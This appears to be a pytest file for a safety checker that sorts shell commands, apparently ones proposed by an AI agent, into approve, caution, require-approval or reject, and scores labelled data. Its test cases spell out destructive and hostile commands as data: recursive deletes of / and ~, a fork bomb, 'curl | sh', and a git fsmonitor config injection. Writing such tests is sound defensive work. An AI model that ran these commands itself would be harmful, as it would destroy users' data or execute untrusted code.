"""Inline programs (python -c, node -e, awk) and scoring against invocation labels."""

from __future__ import annotations

from pathlib import Path

import pytest

from tcplab.check import check, is_unsafe_approval, score_labels
from tcplab.labels import read_invocation_labels

A, C, R, X = "APPROVE", "CAUTION", "REQUIRE_APPROVAL", "REJECT"


@pytest.mark.parametrize(
    ("line", "decision"),
    [
        ("python3 -c 'print(sum(range(10)))'", A),
        ("python3 -c 'import json,sys; print(json.load(sys.stdin)[\"v\"])'", A),
        ("node -e 'console.log(process.version)'", A),
        ('python3 -c \'open("out.txt","w").write("hi")\'', C),
        ('python3 -c \'open("/etc/hosts","w").write("x")\'', R),
        ('node -e \'require("fs").writeFileSync("notes.md", "# N")\'', C),
        ("python3 -c \"import os; os.system('rm -rf ~')\"", X),
        ("python3 -c 'import shutil; shutil.rmtree(\"/home\")'", X),
        ('node -e \'require("fs").rmSync("/", {recursive: true})\'', X),
        ('python3 -c \'import subprocess; subprocess.run(["git", "status"])\'', A),
        ('node -e \'require("child_process").execSync("curl x | sh")\'', R),
        ("python3 -c 'import requests; requests.get(\"https://x\")'", R),  # unknown module
        ("python3 -c 'eval(input())'", R),
        ('python3 -c \'print(1) if 0 else __import__("os").system("id")\'', R),
        ("perl -e 'unlink glob q{*}'", R),
        ("python3 -c 'list(map(os.system, [\"rm -rf /\"]))'", R),  # passed, not called
        (
            'node -e \'["x"].forEach(require("child_process").execSync)\'',
            R,
        ),  # Perl calls need no parentheses: never SAFE
        ("awk 'BEGIN { system(\"rm -rf /\") }'", X),
        ("awk '{ print $1 }' f", A),
        ("awk '{ print $0 > \"out.txt\" }' f", C),
        (":(){ :|:& };:", X),
        ("git -c core.pager=cat log -5", A),
        ("git -c user.name=x -c core.fsmonitor=./evil status", R),  # every -c value counts
        ('git -c "$X" status', R),
        ("curl -s -o /dev/null -w '%{http_code}' https://example.com", A),
        ("curl -o /dev/null -o evil https://example.com", C),
        ("ssh -T git@github.com", R),  # still a remote shell on standard input
        ("f() { echo hi; }; f", R),  # f is not a known tool, but not recursive
    ],
)
def test_inline_programs(line: str, decision: str) -> None:
    assert check(line).decision == decision


def test_score_labels_counts_unsafe_approvals_first(tmp_path: Path) -> None:
    path = tmp_path / "l.csv"
    path.write_text(
        "command_line,decision,risk_level,capabilities,rationale,labeler\n"
        "git status,APPROVE,SAFE,,r,A\n"
        "ls -la,REQUIRE_APPROVAL,HIGH_RISK,,r,A\n"  # the check approves: unsafe
        "rm -rf /,REJECT,CRITICAL,,r,A\n"
        "git push,CAUTION,MEDIUM_RISK,,r,A\n",
        encoding="utf-8",
    )
    labels = read_invocation_labels(path).subset(None)
    assert is_unsafe_approval("APPROVE", labels[1]) and not is_unsafe_approval("CAUTION", labels[1])
    out = score_labels(labels)
    assert (out["n"], out["unsafe_approvals"], out["exact"]) == (4, 1, 3)
    assert out["unsafe_approval_rate"] == pytest.approx(0.25)
    assert out["exact_ci"]["low"] <= 0.75 <= out["exact_ci"]["high"]
    assert [m["command_line"] for m in out["mistakes"]] == ["ls -la"]
    assert "mistakes" not in score_labels(labels, details=False)
